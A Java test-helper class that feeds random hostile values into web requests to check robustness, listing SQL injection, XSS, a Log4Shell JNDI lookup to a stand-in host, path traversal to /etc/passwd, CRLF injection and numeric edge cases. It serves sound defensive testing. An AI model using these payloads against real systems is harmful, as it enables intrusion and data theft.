package dev.lotussaga.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Values that have broken parsers, queries, logs or number handling somewhere, drawn at random. */
public final class HostileValues {

  private static final List<String> VALUES =
      List.of(
          "' OR '1'='1",
          "1; DROP TABLE account; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "{userId}",
          "%s%n",
          "../../etc/passwd",
          "a\u0000b",
          "\u0007\u001b[31m",
          "\r\nX: y",
          "\u202e",
          "日本語",
          "😀",
          "\ud800",
          "",
          " ",
          "x".repeat(5000),
          "0",
          "-1",
          "-0",
          "0.001",
          "1.005",
          "1000000000.01",
          "99999999999999999999999999",
          "9223372036854775808",
          "-9223372036854775809",
          "1e400",
          "1E-400",
          "1e2147483648",
          "NaN",
          "Infinity",
          "0x10",
          " 1",
          "1,5",
          "١٢٣",
          "+100");

  private HostileValues() {}

  /** A value for a parameter, a header or a body. */
  public static String hostile(Random random) {
    return VALUES.get(random.nextInt(VALUES.size()));
  }

  /**
   * A value encoded as one path segment. Without NUL: Tomcat refuses an encoded NUL in a path (400)
   * before the service; MockMvc would not.
   */
  public static String hostileInPath(Random random) {
    String value = hostile(random).replace("\u0000", "");
    return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
